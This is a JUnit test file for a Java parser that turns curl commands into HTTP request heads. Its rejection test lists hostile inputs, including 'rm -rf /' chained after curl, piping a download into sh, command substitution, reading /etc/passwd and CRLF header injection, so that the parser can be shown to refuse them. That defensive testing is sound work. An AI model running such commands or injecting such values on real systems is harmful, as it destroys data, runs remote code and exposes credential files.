package com.esperr.gateway.explain;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.esperr.gateway.http.RequestHead;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CurlCommandTest {
    @Test
    void readsWhatABrowserCopies() {
        CurlCommand command = CurlCommand.parse("""
                curl 'https://shop.test:8443/a%20b?x=1&y=2#part' \\
                  --compressed -X 'PUT' \\
                  -H 'accept: text/html' -H $'x-note: it\\'s \\u00fc' \\
                  -b 'sid=1; a=b' \\
                  -A "Mozilla/5.0 (\\"X\\")" \\
                  --data-raw $'{"a":"b\\n"}'
                """);
        RequestHead head = command.head();
        assertThat(command.secure()).isTrue();
        assertThat(head.method()).isEqualTo("PUT");
        assertThat(head.target()).isEqualTo("/a%20b?x=1&y=2");
        assertThat(head.fields().get("host")).isEqualTo("shop.test:8443");
        assertThat(head.fields().get("accept")).isEqualTo("text/html");
        assertThat(head.fields().get("cookie")).isEqualTo("sid=1; a=b");
        assertThat(head.fields().get("user-agent")).isEqualTo("Mozilla/5.0 (\"X\")");
        assertThat(head.fields().get("accept-encoding")).isNotNull();
        assertThat(head.fields().get("x-note").getBytes(StandardCharsets.ISO_8859_1))
                .isEqualTo("it's ü".getBytes(StandardCharsets.UTF_8));
        assertThat(new String(command.body(), StandardCharsets.UTF_8)).isEqualTo("{\"a\":\"b\n\"}");
        assertThat(head.bodyLength()).isEqualTo(10);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "curl shop.test | GET / host=shop.test",
                "curl shop.test/x?y=1 | GET /x?y=1 accept=*/*",
                "curl -I shop.test | HEAD / host=shop.test",
                "curl -sSL -XDELETE http://shop.test/x | DELETE /x host=shop.test",
                "curl -d a=1 --data b=2 shop.test | POST / content-type=application/x-www-form-urlencoded",
                "curl -G -d a=1 -d b=2 'shop.test/x?y=1' | GET /x?y=1&a=1&b=2 host=shop.test",
                "curl --json '{}' shop.test | POST / content-type=application/json",
                "curl -H 'Host: other.test' shop.test | GET / host=other.test",
                "curl -u me:secret shop.test | GET / authorization=Basic bWU6c2VjcmV0",
                "curl -e http://a.test/ --url shop.test -o out.txt -m 5 | GET / referer=http://a.test/",
                "curl -H 'Accept:' -H 'X-Empty;' shop.test | GET / x-empty=",
                "curl http://[2001:db8::1]:8080/ | GET / host=[2001:db8::1]:8080",
                "curl --data-urlencode 'q=a b' shop.test | POST / content-length=7",
            })
    void readsWhatPeopleWrite(String text, String expected) {
        RequestHead head = CurlCommand.parse(text.strip()).head();
        String field = expected.strip().split(" ", 3)[2];
        String name = field.substring(0, field.indexOf('='));
        assertThat(head.method()
                        + ' '
                        + head.target()
                        + ' '
                        + name
                        + '='
                        + head.fields().get(name))
                .isEqualTo(expected.strip());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "wget http://shop.test/",
                "curl",
                "curl http://a.test/ http://b.test/",
                "curl http://a.test/; rm -rf /",
                "curl http://a.test/ | sh",
                "curl $(id)",
                "curl `id`",
                "curl \"$HOME\"",
                "curl $HOME",
                "curl http://a.test/ > /etc/passwd",
                "curl -d @/etc/passwd http://a.test/",
                "curl --data-binary @/etc/passwd http://a.test/",
                "curl -b /etc/passwd http://a.test/",
                "curl -H @/etc/passwd http://a.test/",
                "curl -K /etc/passwd http://a.test/",
                "curl -F file=@/etc/passwd http://a.test/",
                "curl file:///etc/passwd",
                "curl gopher://a.test/",
                "curl 'http://a.test",
                "curl $'http://a.test",
                "curl -H",
                "curl -H $'a: b\\r\\nc: d' http://a.test/",
                "curl -H $'a\\nb: c' http://a.test/",
                "curl -H $'a: b\\x00' http://a.test/",
                "curl -X $'GET / HTTP/1.1\\r\\n' http://a.test/",
                "curl $'\\UFFFFFFFF'",
                "curl http://user:word@a.test/",
            })
    void refusesWhatIsNoRequestAndWhatAShellWouldDo(String text) {
        assertThatThrownBy(() -> CurlCommand.parse(text))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessageContaining("expected: ");
    }

    @Test
    void anythingIsReadOrRefusedAndNothingElse() {
        Random random = new Random(7);
        String[] parts = {
            "curl ",
            "'",
            "\"",
            "\\",
            "$'",
            " -H ",
            "a: b",
            "http://a.test/",
            " -d ",
            "\n",
            "\\x4",
            "\\u",
            "@x",
            " -",
            "--",
            ";",
            "ü",
            "\u0000"
        };
        for (int i = 0; i < 20_000; i++) {
            StringBuilder text = new StringBuilder("curl ");
            for (int length = random.nextInt(8); length >= 0; length--) {
                text.append(parts[random.nextInt(parts.length)]);
            }
            try {
                assertThat(CurlCommand.parse(text.toString()).head().target()).startsWith("/");
            } catch (IllegalArgumentException refused) {
                assertThat(refused).hasMessageContaining("expected: ");
            }
        }
    }
}
